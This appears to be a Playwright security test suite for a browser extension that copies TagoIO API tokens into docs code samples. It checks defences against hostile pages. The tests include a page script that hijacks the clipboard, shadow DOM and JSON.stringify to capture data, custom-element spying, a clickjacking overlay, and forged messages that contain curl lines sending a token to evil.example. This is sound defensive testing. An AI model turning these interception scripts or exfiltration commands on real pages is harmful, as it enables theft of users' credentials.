import type { Page } from '@playwright/test';
import { HONEST } from '../docs-pages/covers.ts';
import { docsSite, operationPath } from '../docs-pages/site.ts';
import { expect, test } from './fixtures.ts';
import { accountOf, connect } from './pages/connect-page.ts';
import { clipboardOf, DocsPage } from './pages/docs-page.ts';
import { words } from './strings.ts';

const PYTHON = '/docs/tagoio/analysis/sdk/python-sdk/';

test.beforeEach(({ docs }) => {
  docs.handler = docsSite();
});

/** Puts a text of the page's own on the clipboard, so that it can be seen whether it stays. */
async function plantOnClipboard(page: Page): Promise<void> {
  await page
    .context()
    .grantPermissions(['clipboard-read', 'clipboard-write'], { origin: 'https://docs.tago.io' });
  await page.bringToFront();
  await page.evaluate(() => navigator.clipboard.writeText('planted'));
}

test('a page cannot press the buttons by script, see into them, or make them ask', async ({
  extension,
  sandbox,
}) => {
  await connect(extension, accountOf(sandbox, 'plain'));
  const docs = await DocsPage.open(extension.context, PYTHON);
  await docs.get('button', /^Copy with/);
  await plantOnClipboard(docs.page);
  const listed = sandbox.requests.count({ route: '/profile/:id/token' });
  const seen = await docs.page.evaluate(() => {
    const found: string[] = [];
    for (const host of document.querySelectorAll<HTMLElement>('[data-profiles-for-tagoio]')) {
      found.push(String(host.shadowRoot), host.textContent ?? '', host.innerHTML);
      const box = { x: 0, y: 0 };
      for (let at = 0; at < 60_000 && document.elementFromPoint(box.x, box.y) !== host; at++) {
        box.x = (at % 240) * 6;
        box.y = Math.floor(at / 240) * 4;
      }
      for (const target of [host, document.elementFromPoint(box.x, box.y)!]) {
        for (const type of ['pointerdown', 'mousedown', 'pointerup', 'mouseup', 'click']) {
          const at = { bubbles: true, composed: true, clientX: box.x, clientY: box.y };
          target.dispatchEvent(new MouseEvent(type, at));
        }
        target.dispatchEvent(new KeyboardEvent('keydown', { key: 'Enter', bubbles: true, composed: true }));
        (target as HTMLElement).click();
        (target as HTMLElement).focus();
      }
      found.push(document.activeElement?.localName ?? '');
    }
    return found;
  });
  expect(seen).toEqual(['null', '', '', 'body', 'null', '', '', 'body']);
  await docs.idle();
  expect(sandbox.requests.count({ route: '/profile/:id/token' })).toBe(listed);
  expect(await clipboardOf(docs.page)).toBe('planted');

  // The same press by a person works: the buttons were there to be pressed.
  await docs.press('button', /^Copy with/);
  await docs.text(/^Copied/);
  expect(sandbox.requests.count({ route: '/profile/:id/token' })).toBe(listed + 1);
});

test('a page that puts itself in the way of everything gets nothing', async ({ extension, sandbox }) => {
  const account = accountOf(sandbox, 'plain');
  await connect(extension, account);
  const docs = await DocsPage.open(extension.context, PYTHON, async (page) => {
    await page.addInitScript(inTheWay);
  });
  await docs.page.evaluate(() => JSON.stringify('the positive control'));
  await docs.press('button', /^Copy with/);
  await docs.text(/^Copied/);
  const token = account.tokens!.read!;
  const stolen = await docs.page.evaluate(() => (globalThis as { stolen?: string[] }).stolen ?? []);
  expect(stolen).toContain('the positive control');
  expect(stolen.join('\n')).not.toContain(token);
  expect(stolen).not.toContain('attachShadow');
  const reader = await DocsPage.open(extension.context, '/docs/');
  expect(await clipboardOf(reader.page)).toContain(token);
});

/** A page's script that wraps whatever a copy might pass through, and keeps what it sees. */
function inTheWay(): void {
  const stolen: string[] = [];
  (globalThis as { stolen?: string[] }).stolen = stolen;
  const take = (what: unknown) => {
    stolen.push(typeof what === 'string' ? what : (JSON.stringify(what) ?? String(what)));
  };
  const clipboard = {
    writeText: async (text: string) => take(text),
    write: async (items: unknown) => take(items),
    readText: async () => '',
  };
  Object.defineProperty(navigator, 'clipboard', { value: clipboard, configurable: true });
  const attach = Element.prototype.attachShadow;
  Element.prototype.attachShadow = function (options) {
    take('attachShadow');
    return attach.call(this, { ...options, mode: 'open' });
  };
  document.execCommand = (command: string) => {
    take(command);
    return true;
  };
  for (const type of ['copy', 'cut', 'paste', 'message', 'beforeinput', 'input']) {
    addEventListener(type, (event) => take(`${type} ${(event as MessageEvent).data ?? ''}`), true);
  }
  const send = (globalThis as { chrome?: { runtime?: { sendMessage?: unknown } } }).chrome;
  if (send?.runtime?.sendMessage) take('chrome.runtime is here');
  JSON.stringify = new Proxy(JSON.stringify, {
    apply(target, self, values) {
      stolen.push(String(values[0]));
      return Reflect.apply(target, self, values);
    },
  });
}

test('a page that defines elements before the extension comes sees nothing of the tree', async ({
  extension,
  sandbox,
}) => {
  await connect(extension, accountOf(sandbox, 'plain'));
  const docs = await DocsPage.open(extension.context, PYTHON, async (page) => {
    await page.addInitScript(() => {
      const found: unknown[] = [];
      Object.assign(globalThis, { found });
      const spying = (Base: typeof HTMLElement) =>
        class extends Base {
          constructor() {
            super();
            found.push(this.attachInternals().shadowRoot ?? 'constructed');
          }
        };
      customElements.define('profiles-for-tagoio', spying(HTMLElement));
      customElements.define('spying-div', spying(HTMLDivElement), { extends: 'div' });
    });
  });
  await docs.get('button', /^Copy with/);
  const learnt = await docs.page.evaluate(() => {
    const host = document.querySelector<HTMLElement>('[data-profiles-for-tagoio]')!;
    host.setAttribute('is', 'spying-div');
    customElements.upgrade(host);
    let internals = 'refused';
    try {
      internals = String(host.attachInternals().shadowRoot);
    } catch {}
    getSelection()?.selectAllChildren(document.body);
    const box = host.getBoundingClientRect();
    return {
      found: (globalThis as { found?: unknown[] }).found,
      internals,
      name: host.localName,
      markup: host.outerHTML.replace(' is="spying-div"', ''),
      html: document.documentElement.getHTML({ serializableShadowRoots: true }).includes('Acme'),
      selected: getSelection()?.toString().includes('Acme'),
      size: [box.width, box.height],
    };
  });
  expect(learnt).toEqual({
    found: [],
    internals: 'refused',
    name: 'div',
    markup: '<div data-profiles-for-tagoio="sample"></div>',
    html: false,
    selected: false,
    size: [0, 0],
  });
});

test('what covers the button until the press comes is not gone soon enough', async ({
  extension,
  sandbox,
}) => {
  await connect(extension, accountOf(sandbox, 'plain'));
  const docs = await DocsPage.open(extension.context, operationPath('GET', '/device'));
  await docs.get('button', /^Copy ready to run/);
  const { x, y, width, height } = await docs.box('button', /^Copy ready to run/);
  await docs.page.evaluate(() => {
    const sheet = document.createElement('div');
    sheet.style.cssText = 'position:fixed;inset:0;background:#fff;z-index:9999;pointer-events:none';
    document.body.append(sheet);
    addEventListener('pointerdown', () => sheet.remove(), true);
  });
  await docs.visibilityJudged();
  const opened = extension.context.waitForEvent('page');
  await docs.page.mouse.click(x + width / 2, y + height / 2);
  // Nothing was copied: the extension's own window asks.
  const window = await opened;
  await expect(window.getByRole('heading', { name: words('copyWindowTitleSample') })).toBeVisible();
  expect(sandbox.requests.count({ route: '/profile/:id/token', search: 'token' })).toBe(0);
});

for (const [what, script] of Object.entries(HONEST)) {
  test(`an honest press leads to a copy with ${what}`, async ({ extension, sandbox }) => {
    const account = accountOf(sandbox, 'plain');
    await connect(extension, account);
    const docs = await DocsPage.open(extension.context, operationPath('GET', '/device'));
    await docs.get('button', /^Copy ready to run/);
    await docs.page.evaluate((code) => new Function(code)(), script);
    const opened = extension.context.waitForEvent('page', { timeout: 60_000 }).then(
      async (window) => window.getByRole('button', { name: words('copyWindowCopy'), exact: true }).click(),
      () => {},
    );
    await docs.press('button', /^Copy ready to run/);
    await Promise.race([opened, docs.text(/^Copied/)]);
    await expect.poll(() => clipboardOf(docs.page)).toContain(account.tokens!.read!);
  });
}

test('messages that a docs page’s process makes up get nothing beyond what a button may ask', async ({
  extension,
  sandbox,
}) => {
  const account = accountOf(sandbox, 'plain');
  await connect(extension, account);
  const docs = await DocsPage.open(extension.context, PYTHON);
  await docs.get('button', /^Copy with/);
  const profileKey = `https://api.us-e1.tago.io#${account.profiles[0]!.id}`;
  const connectionKey = `https://api.us-e1.tago.io#${account.id}`;
  const text = 'curl https://evil.example/?t=HERE';
  const sample = { profileKey, text, method: null, token: null };
  const curl = `curl -H "token: <your-profile-token>" https://evil.example`;
  const attempts: [type: string, data: unknown, code: string][] = [
    ['copySample', { ...sample, what: 'placeholders' }, 'invalid-input'],
    ['copySample', { ...sample, text: curl, what: 'placeholders' }, 'foreign-destination'],
    [
      'copyPending',
      { connectionKey, profileKey, token: null, format: null, fullAccepted: true },
      'not-allowed',
    ],
    ['pendingCopy', undefined, 'not-allowed'],
    ['previewCopy', { connectionKey, profileKey, format: null }, 'not-allowed'],
    ['openCopyAs', { connectionKey, profileKey, token: null }, 'not-allowed'],
    ['copyToken', { connectionKey, profileKey, token: null }, 'not-allowed'],
    [
      'createToken',
      { connectionKey, profileKey, name: 'x', permission: 'full', expireTime: 'never', password: '' },
      'not-allowed',
    ],
    ['switchProfile', { connectionKey, profileKey }, 'not-allowed'],
    ['unlock', { passphrase: 'a' }, 'not-allowed'],
    ['disconnect', { connectionKey }, 'not-allowed'],
  ];
  for (const [type, data, code] of attempts) {
    await docs.untilPaceAllows();
    const answer = await docs.sendAsContentScript(type, data);
    expect(answer, type).toEqual({ ok: false, failure: expect.objectContaining({ code }) });
  }
});
